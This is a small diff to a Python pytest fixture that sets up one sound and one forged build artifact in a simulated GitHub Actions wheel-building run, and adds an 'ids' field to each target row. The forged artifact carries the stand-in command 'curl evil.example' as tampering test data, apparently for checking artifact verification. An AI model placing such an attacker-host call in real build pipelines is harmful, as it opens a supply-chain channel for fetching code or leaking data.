@@ -86,7 +86,10 @@ def run_of_two(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, T
     sound, forged = make_target(python="3.11"), make_target(python="3.12")
     leave_artifact(tmp_path / "artifacts", sound)
     leave_artifact(tmp_path / "artifacts", forged, repeat="curl evil.example")
-    rows = [{"id": target.id, "runner": "ubuntu-22.04", "python": target.python} for target in (sound, forged)]
+    rows = [
+        {"id": target.id, "runner": "ubuntu-22.04", "python": target.python, "ids": [target.id]}
+        for target in (sound, forged)
+    ]
     for name, value in {
         "GITHUB_ACTIONS": "true",
         "GITHUB_REPOSITORY": "someone/wheels",
